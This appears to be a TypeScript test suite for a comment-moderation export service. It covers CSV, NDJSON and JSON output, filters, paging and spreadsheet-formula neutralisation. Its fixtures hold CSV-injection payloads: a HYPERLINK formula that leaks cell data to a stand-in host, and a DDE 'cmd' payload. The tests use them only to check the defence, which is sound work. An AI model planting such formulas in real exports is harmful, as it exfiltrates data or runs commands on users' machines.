import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { Writable } from 'node:stream';
import { randomUUID } from 'node:crypto';
import request from 'supertest';
import { parse } from 'csv-parse/sync';
import { createTestApp, type TestApp } from '../helpers/test-app.js';
import { aComment } from '../helpers/comments.js';
import { createUsersRepo, type User } from '../../src/repositories/users.repo.js';
import { createApiKeysRepo } from '../../src/repositories/api-keys.repo.js';
import { createAccountsService } from '../../src/services/accounts.service.js';
import { createModerationService } from '../../src/services/moderation.service.js';
import { createExportsRepo } from '../../src/repositories/exports.repo.js';
import {
  createExportService,
  ExportError,
  neutralizeFormula,
  OutputClosedError,
  parseCommentsParams,
  parseLogParams,
  type ExportFormat,
  type ExportOptions,
  type ExportService,
} from '../../src/services/export.service.js';

/** A Writable that keeps what it is given, optionally slow (to exercise backpressure). */
class Collector extends Writable {
  chunks: string[] = [];
  constructor(private readonly delayMs = 0, highWaterMark?: number) {
    super({ decodeStrings: false, ...(highWaterMark !== undefined && { highWaterMark }) });
  }
  override _write(chunk: unknown, _encoding: BufferEncoding, callback: (error?: Error | null) => void) {
    this.chunks.push(String(chunk));
    if (this.delayMs > 0) setTimeout(callback, this.delayMs);
    else setImmediate(callback);
  }
  get text() {
    return this.chunks.join('');
  }
}

type Row = Record<string, string>;
const parseCsv = (text: string, delimiter = ','): Row[] => parse(text, { columns: true, bom: true, delimiter }) as Row[];
const today = () => new Date().toISOString().slice(0, 10);

describe('the export service', () => {
  let t: TestApp;
  let key: string;
  let exports: ExportService;
  let alice: User;
  let bruno: User;
  const tag = randomUUID().slice(0, 8);
  const articleA = `art-a-${tag}`;
  const articleB = `art-b-${tag}`;
  const ids: Record<string, number> = {};
  const externalIds: Record<string, string> = {};

  async function ingest(name: string, overrides: Record<string, unknown>) {
    const comment = aComment(overrides);
    const res = await request(t.app).post('/api/v1/comments').set('Authorization', `Bearer ${key}`).send(comment).expect(201);
    ids[name] = res.body.id as number;
    externalIds[name] = comment.externalId as string;
    return res.body as { id: number; version: number; status: string };
  }

  async function run(kind: 'log' | 'comments', format: ExportFormat, options: ExportOptions = {}, params: Record<string, unknown> = {}) {
    const out = new Collector();
    if (kind === 'log') {
      const parsed = parseLogParams({ format, ...params });
      const result = await exports.exportModerationLog(parsed.filter, format, { ...parsed.options, ...options }, out);
      return { text: out.text, rows: result.rows };
    }
    const parsed = parseCommentsParams({ format, ...params });
    const result = await exports.exportComments(parsed.filter, format, { ...parsed.options, ...options }, out);
    return { text: out.text, rows: result.rows };
  }

  before(async () => {
    t = await createTestApp();
    key = await t.addApiKey();
    exports = createExportService(t.db);
    const accounts = createAccountsService({ users: createUsersRepo(t.db), apiKeys: createApiKeysRepo(t.db) });
    alice = (await accounts.addUser({ email: `alice-${tag}@journal.example`, role: 'moderator', password: 'password-long-1', displayName: 'Alice Martin' })).user;
    bruno = (await accounts.addUser({ email: `bruno-${tag}@journal.example`, role: 'moderator', password: 'password-long-2', displayName: 'Bruno Diallo' })).user;
    const moderation = createModerationService(t.db);

    const article = (externalId: string, title: string) => ({ externalId, url: `https://journal.example/${externalId}`, title });
    const insult = await ingest('insult', {
      body: 'Ferme ta gueule, espèce de connard.',
      article: article(articleA, 'Élections à Dakar'),
      createdAt: '2026-03-10T08:00:00Z',
    });
    const civil = await ingest('civil', {
      body: 'Merci pour cet article, très "complet", même si; bon.\nDeuxième ligne.',
      article: article(articleA, 'Élections à Dakar'),
      createdAt: '2026-03-11T23:59:59Z',
    });
    await ingest('reply', {
      body: 'Je ne suis pas d’accord avec vous.',
      article: article(articleB, 'Budget 2027'),
      parentExternalId: externalIds.insult,
      createdAt: '2026-03-12T00:00:00Z',
    });
    for (const [name, body] of [
      ['hyperlink', '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'],
      ['plus', '+1 pour cet article'],
      ['minus', '-2 points pour la rédaction'],
      ['at', '@SUM(A1:A9) et voilà'],
    ] as const) {
      await ingest(name, { body, article: article(articleB, 'Budget 2027'), createdAt: '2026-04-01T12:00:00Z' });
    }

    await moderation.decide(alice, { commentId: ids.insult!, expectedVersion: insult.version, action: 'reject', reasonCode: 'insulte', note: '=récidive' });
    await moderation.decide(bruno, { commentId: ids.civil!, expectedVersion: civil.version, action: 'approve' });
  });
  after(() => t.close());

  it('when the log is exported as CSV, then it parses back with one row per event, moderator, reason and matched terms', async () => {
    const { text, rows } = await run('log', 'csv');
    const records = parseCsv(text);
    assert.equal(records.length, rows);
    assert.equal(records.length, 7 + 2, 'seven triage events and two decisions');
    assert.deepEqual(Object.keys(records[0]!), [
      'event_id', 'when', 'who', 'who_email', 'action', 'from_status', 'to_status', 'reason_code', 'note',
      'comment_id', 'comment_external_id', 'source', 'body', 'article_external_id', 'article_title',
      'author_external_id', 'author_name', 'score_at_decision', 'matched_terms',
    ]);
    const ids_ = records.map((r) => Number(r.event_id));
    assert.deepEqual(ids_, [...ids_].sort((a, b) => a - b), 'oldest first');

    const reject = records.find((r) => r.action === 'reject')!;
    assert.equal(reject.who, 'Alice Martin');
    assert.equal(reject.who_email, alice.email);
    assert.equal(reject.reason_code, 'insulte');
    assert.equal(reject.note, "'=récidive", 'a note is neutralized like a body');
    assert.equal(reject.comment_id, String(ids.insult));
    assert.equal(reject.comment_external_id, externalIds.insult);
    assert.equal(reject.source, 'test-site');
    assert.equal(reject.body, 'Ferme ta gueule, espèce de connard.');
    assert.equal(reject.article_external_id, articleA);
    assert.equal(reject.article_title, 'Élections à Dakar');
    assert.equal(reject.to_status, 'rejected');
    assert.ok(Number(reject.score_at_decision) > 0.4);
    assert.match(reject.matched_terms!, /connard/);
    assert.match(reject.matched_terms!, / \| /, 'several terms joined with " | "');
    assert.match(reject.when!, /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);

    const triage = records.find((r) => r.action === 'triage' && r.comment_id === String(ids.civil))!;
    assert.equal(triage.who, 'system');
    assert.equal(triage.who_email, '');
    assert.equal(triage.body, 'Merci pour cet article, très "complet", même si; bon.\nDeuxième ligne.', 'quotes, ; and newlines survive');
  });

  it('when the log is exported as NDJSON, then each line is one event with its full matches array', async () => {
    const { text, rows } = await run('log', 'ndjson');
    const lines = text.trimEnd().split('\n').map((line) => JSON.parse(line));
    assert.equal(lines.length, rows);
    const reject = lines.find((e) => e.action === 'reject');
    assert.equal(reject.who, 'Alice Martin');
    assert.equal(reject.note, '=récidive', 'NDJSON keeps values as they are');
    assert.equal(typeof reject.score_at_decision, 'number');
    assert.equal(reject.comment_id, ids.insult);
    assert.ok(Array.isArray(reject.matches) && reject.matches.length >= 2);
    assert.deepEqual(Object.keys(reject.matches[0]).sort(), ['category', 'end', 'severity', 'start', 'term', 'text']);
    assert.equal(reject.matched_terms, undefined);
  });

  it('when the log is exported as JSON, then it is one array; an empty export is []', async () => {
    const { text, rows } = await run('log', 'json');
    assert.match(text, /^\[\n\{/);
    assert.match(text, /\}\n\]\n$/);
    const events = JSON.parse(text);
    assert.equal(events.length, rows);
    assert.equal(events.filter((e: { action: string }) => e.action === 'approve')[0].who, 'Bruno Diallo');
    const empty = await run('log', 'json', {}, { article: 'no-such-article' });
    assert.equal(empty.text, '[]\n');
    assert.deepEqual(JSON.parse(empty.text), []);
    const emptyCsv = await run('log', 'csv', {}, { article: 'no-such-article' });
    assert.match(emptyCsv.text, /^event_id,when,who,/, 'an empty CSV still has its header');
    assert.equal(parseCsv(emptyCsv.text).length, 0);
  });

  it('when asked for Excel, then the CSV starts with a BOM and uses ; as separator', async () => {
    const { text } = await run('log', 'csv', {}, { bom: '1', delimiter: ';' });
    assert.equal(text.charCodeAt(0), 0xfeff);
    assert.equal(text.indexOf('\ufeff', 1), -1, 'one BOM, not one per page');
    assert.match(text, /^\ufeffevent_id;when;who;who_email;/);
    const records = parseCsv(text, ';');
    assert.equal(records.length, 9);
    assert.equal(records.find((r) => r.comment_id === String(ids.civil))?.body, 'Merci pour cet article, très "complet", même si; bon.\nDeuxième ligne.');
    const plain = await run('log', 'csv');
    assert.notEqual(plain.text.charCodeAt(0), 0xfeff, 'no BOM unless asked');
  });

  it('when a body starts with = + - or @, then the CSV cell gets a leading quote; NDJSON keeps it as is', async () => {
    const records = parseCsv((await run('comments', 'csv')).text);
    const bodyOf = (name: string) => records.find((r) => r.id === externalIds[name])!.body;
    assert.equal(bodyOf('hyperlink'), `'=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")`);
    assert.equal(bodyOf('plus'), "'+1 pour cet article");
    assert.equal(bodyOf('minus'), "'-2 points pour la rédaction");
    assert.equal(bodyOf('at'), "'@SUM(A1:A9) et voilà");
    assert.equal(bodyOf('civil')!.startsWith("'"), false);
    const log = parseCsv((await run('log', 'csv')).text);
    assert.ok(log.some((r) => r.body === "'-2 points pour la rédaction"), 'the log export too');

    const ndjson = (await run('comments', 'ndjson')).text.trimEnd().split('\n').map((line) => JSON.parse(line));
    assert.equal(ndjson.find((c) => c.id === externalIds.hyperlink).body, '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")');

    const raw = parseCsv((await run('comments', 'csv', { escapeFormulas: false })).text);
    assert.equal(raw.find((r) => r.id === externalIds.minus)!.body, '-2 points pour la rédaction', 'off only when asked');
  });

  it('when formula-like values are neutralized, then the whole OWASP set is covered and other text is untouched', () => {
    for (const value of ['=1+1', '+1', '-2', '@SUM(A1)', '\tx', '\rx', '＝1', '＋1', '－1', '＠x']) {
      assert.equal(neutralizeFormula(value), `'${value}`, JSON.stringify(value));
    }
    for (const value of ['', 'Bonjour', ' =1', "'déjà", '2026-03-10', 'a=b', 'a\nb', 'x\n =1']) assert.equal(neutralizeFormula(value), value);
    assert.equal(neutralizeFormula('a\n=1\r\n-2\r@3'), "a\n'=1\r\n'-2\r'@3");
  });

  it('when the comments are exported, then the columns are the ones the import recognizes, with the parent external id', async () => {
    const { text, rows } = await run('comments', 'csv');
    const records = parseCsv(text);
    assert.equal(records.length, rows);
    assert.equal(records.length, 7);
    const columns = Object.keys(records[0]!);
    for (const name of ['source', 'id', 'article_id', 'article_url', 'article_title', 'author_id', 'author_name', 'body', 'created_at', 'parent_id', 'status']) {
      assert.ok(columns.includes(name), `column ${name}`);
    }
    assert.deepEqual(columns.slice(12, 20), ['score', 'score_insult', 'score_harassment', 'score_threat', 'score_identity_attack', 'score_sexual', 'score_profanity', 'target']);
    const reply = records.find((r) => r.id === externalIds.reply)!;
    assert.equal(reply.parent_id, externalIds.insult);
    assert.equal(reply.internal_id, String(ids.reply));
    assert.equal(reply.article_id, articleB);
    assert.equal(reply.article_url, `https://journal.example/${articleB}`);
    assert.equal(reply.created_at, '2026-03-12T00:00:00.000Z');
    const insult = records.find((r) => r.id === externalIds.insult)!;
    assert.equal(insult.status, 'rejected');
    assert.equal(insult.parent_id, '');
    assert.ok(Number(insult.score_harassment) > 0);
    assert.match(insult.matched_terms!, /connard/);
    assert.ok(insult.scorer_version);
    assert.match(insult.updated_at!, /Z$/);
  });

  it('when the log is filtered by moderator (e-mail or id), action, reason, article or dates, then only those events come out', async () => {
    const byEmail = parseCsv((await run('log', 'csv', {}, { moderator: alice.email.toUpperCase() })).text);
    assert.deepEqual(byEmail.map((r) => r.action), ['reject']);
    const byId = parseCsv((await run('log', 'csv', {}, { moderator: String(bruno.id) })).text);
    assert.deepEqual(byId.map((r) => r.action), ['approve']);
    const byAction = parseCsv((await run('log', 'csv', {}, { action: 'triage' })).text);
    assert.equal(byAction.length, 7);
    const byReason = parseCsv((await run('log', 'csv', {}, { reason: 'insulte' })).text);
    assert.deepEqual(byReason.map((r) => r.comment_id), [String(ids.insult)]);
    const byArticle = parseCsv((await run('log', 'csv', {}, { article: articleA })).text);
    assert.equal(byArticle.length, 4, 'two triages and two decisions on article A');
    assert.ok(byArticle.every((r) => r.article_external_id === articleA));
    const inToday = parseCsv((await run('log', 'csv', {}, { from: today(), to: today() })).text);
    assert.equal(inToday.length, 9, '"to" as a day includes the whole day');
    const yesterday = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10);
    assert.equal(parseCsv((await run('log', 'csv', {}, { to: yesterday })).text).length, 0);
    const future = new Date(Date.now() + 3_600_000).toISOString();
    assert.equal(parseCsv((await run('log', 'csv', {}, { from: future })).text).length, 0, 'an ISO date-time works too');
  });

  it('when the comments are filtered by status, dates or article, then only those comments come out', async () => {
    const rejected = parseCsv((await run('comments', 'csv', {}, { status: 'rejected' })).text);
    assert.deepEqual(rejected.map((r) => r.id), [externalIds.insult]);
    const decided = parseCsv((await run('comments', 'csv', {}, { status: 'approved,rejected' })).text);
    assert.deepEqual(decided.map((r) => r.id), [externalIds.insult, externalIds.civil]);
    const march = parseCsv((await run('comments', 'csv', {}, { from: '2026-03-10', to: '2026-03-11' })).text);
    assert.deepEqual(march.map((r) => r.id), [externalIds.insult, externalIds.civil], 'the whole of the 11th, not the 12th');
    const instant = parseCsv((await run('comments', 'csv', {}, { to: '2026-03-12T00:00:00Z' })).text);
    assert.deepEqual(instant.map((r) => r.id), [externalIds.insult, externalIds.civil, externalIds.reply], 'a date-time "to" is inclusive');
    const onB = parseCsv((await run('comments', 'csv', {}, { article: articleB })).text);
    assert.equal(onB.length, 5);
  });

  it('when a parameter is wrong, then the error names it', async () => {
    const wrong: Array<[Record<string, unknown>, string]> = [
      [{ format: 'xml' }, 'format'],
      [{ from: '23/11/2026' }, 'from'],
      [{ to: '2026-11-23T10:00:00' }, 'to'],
      [{ from: '2026-11-24', to: '2026-11-23' }, 'to'],
      [{ reason: 'rudesse' }, 'reason'],
      [{ delimiter: '|' }, 'delimiter'],
      [{ bom: 'peut-être' }, 'bom'],
    ];
    for (const [params, param] of wrong) {
      assert.throws(() => parseLogParams(params), (err: unknown) => err instanceof ExportError && err.param === param, JSON.stringify(params));
    }
    assert.throws(() => parseCommentsParams({ status: 'approved,deleted' }), (err: unknown) => err instanceof ExportError && err.param === 'status');
    await assert.rejects(
      exports.exportModerationLog({ moderator: 'nobody@journal.example' }, 'csv', {}, new Collector()),
      (err: unknown) => err instanceof ExportError && err.param === 'moderator',
    );
  });

  it('when the output is slow, then the export waits for it and nothing is lost', async () => {
    const slow = new Collector(2, 16);
    const { rows } = await exports.exportModerationLog({}, 'ndjson', { pageSize: 2 }, slow);
    assert.equal(slow.text.trimEnd().split('\n').length, rows);
    assert.equal(rows, 9);
  });

  it('when the output closes mid-export, then the export stops reading and rejects', async () => {
    let queries = 0;
    const count = (query: { sql: string }) => {
      if (/from .moderation_events./i.test(query.sql)) queries++;
    };
    t.db.on('query', count);
    const out = new Collector(5, 1);
    setTimeout(() => out.destroy(), 15);
    try {
      await assert.rejects(exports.exportModerationLog({}, 'ndjson', { pageSize: 1 }, out), OutputClosedError);
    } finally {
      t.db.removeListener('query', count);
    }
    assert.ok(queries < 9, `stopped early (${queries} page queries for 9 events)`);
  });
});

describe('the export reads in pages', () => {
  let t: TestApp;
  before(async () => {
    t = await createTestApp();
    const key = await t.addApiKey();
    for (let batch = 0; batch < 3; batch++) {
      const size = batch < 2 ? 1000 : 500;
      const comments = Array.from({ length: size }, (_, i) => aComment({ body: `Commentaire ${batch}-${i}`, article: { externalId: 'paged' } }));
      await request(t.app).post('/api/v1/comments').set('Authorization', `Bearer ${key}`).send(comments).expect(201);
    }
  });
  after(() => t.close());

  it('when 2,500 events are read with pages of 1,000, then they come out complete and in order in three queries', async () => {
    const sizes: number[] = [];
    const queries: string[] = [];
    const onQuery = (query: { sql: string }) => {
      if (/from .moderation_events./i.test(query.sql)) queries.push(query.sql);
    };
    t.db.on('query', onQuery);
    const ids: number[] = [];
    try {
      for await (const page of createExportsRepo(t.db).eventPages({}, { pageSize: 1000 })) {
        sizes.push(page.length);
        for (const event of page) ids.push(event.id);
      }
    } finally {
      t.db.removeListener('query', onQuery);
    }
    assert.deepEqual(sizes, [1000, 1000, 500]);
    assert.equal(queries.length, 3, 'one bounded query per page, never the whole table');
    assert.ok(queries.every((sql) => /limit/i.test(sql)));
    assert.equal(new Set(ids).size, 2500);
    assert.ok(ids.every((id, i) => i === 0 || id > ids[i - 1]!), 'ascending ids');
  });

  it('when 2,500 events are exported, then every one is written once, in order', async () => {
    const out = new Collector();
    const { rows } = await createExportService(t.db).exportModerationLog({}, 'ndjson', { pageSize: 1000 }, out);
    const ids = out.text.trimEnd().split('\n').map((line) => (JSON.parse(line) as { event_id: number }).event_id);
    assert.equal(rows, 2500);
    assert.equal(ids.length, 2500);
    assert.ok(ids.every((id, i) => i === 0 || id > ids[i - 1]!));
    const comments = new Collector();
    assert.equal((await createExportService(t.db).exportComments({}, 'csv', { pageSize: 1000 }, comments)).rows, 2500);
    assert.equal(parseCsv(comments.text).length, 2500);
  });
});

describe('the CSV export of hostile text', () => {
  let t: TestApp;
  let key: string;
  const tag = randomUUID().slice(0, 8);
  before(async () => {
    t = await createTestApp();
    key = await t.addApiKey();
  });
  after(() => t.close());

  it('when bodies hold line breaks, quotes, separators and formulas after a break, then the CSV parses back to the same rows and columns', async () => {
    const hostile = [
      "Première ligne\n=cmd|'/C calc'!A0",
      'Ligne\r\n+SUM(A1:A2) puis\r-1',
      'Des "guillemets", des ; et des , partout',
      'Fin de ligne seule\n',
      '\n@début après un saut',
    ];
    const tagged = hostile.map((body, i) => ({ name: `hostile-${i}`, body }));
    const externalIds: Record<string, string> = {};
    for (const { name, body } of tagged) {
      const comment = aComment({ body, article: { externalId: `art-h-${tag}`, url: 'https://journal.example/h', title: 'Titre; avec "tout"\n=1' } });
      await request(t.app).post('/api/v1/comments').set('Authorization', `Bearer ${key}`).send(comment).expect(201);
      externalIds[name] = comment.externalId as string;
    }
    for (const delimiter of [',', ';'] as const) {
      const parsed = parseCommentsParams({ format: 'csv', article: `art-h-${tag}` });
      const out = new Collector();
      await createExportService(t.db).exportComments(parsed.filter, 'csv', { ...parsed.options, delimiter }, out);
      const text = out.text;
      // Strict parsing: a row with the wrong number of columns throws.
      const rows = parse(text, { bom: true, delimiter, relax_column_count: false }) as string[][];
      const header = rows[0]!;
      assert.equal(rows.length, 1 + hostile.length, `${delimiter}: one row per comment, no extra row from a line break`);
      for (const row of rows) assert.equal(row.length, header.length);
      const records = parseCsv(text, delimiter);
      for (const { name, body } of tagged) {
        const exported = records.find((r) => r.id === externalIds[name])!.body!;
        assert.equal(exported, neutralizeFormula(body));
        for (const line of exported.split(/\r\n|\r|\n/)) assert.doesNotMatch(line, /^[=+\-@]/, `${delimiter}: no line of a cell starts a formula: ${JSON.stringify(exported)}`);
      }
    }
  });
});
